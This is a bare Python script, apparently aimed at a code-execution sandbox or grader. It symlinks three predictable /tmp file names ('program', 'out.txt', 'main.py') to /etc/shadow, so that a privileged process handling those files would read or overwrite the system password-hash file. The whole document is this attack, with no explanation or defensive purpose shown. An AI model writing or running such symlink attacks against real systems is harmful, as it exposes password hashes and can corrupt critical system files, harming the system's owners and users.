import os

for name in ("program", "out.txt", "main.py"):
    os.symlink("/etc/shadow", "/tmp/" + name)
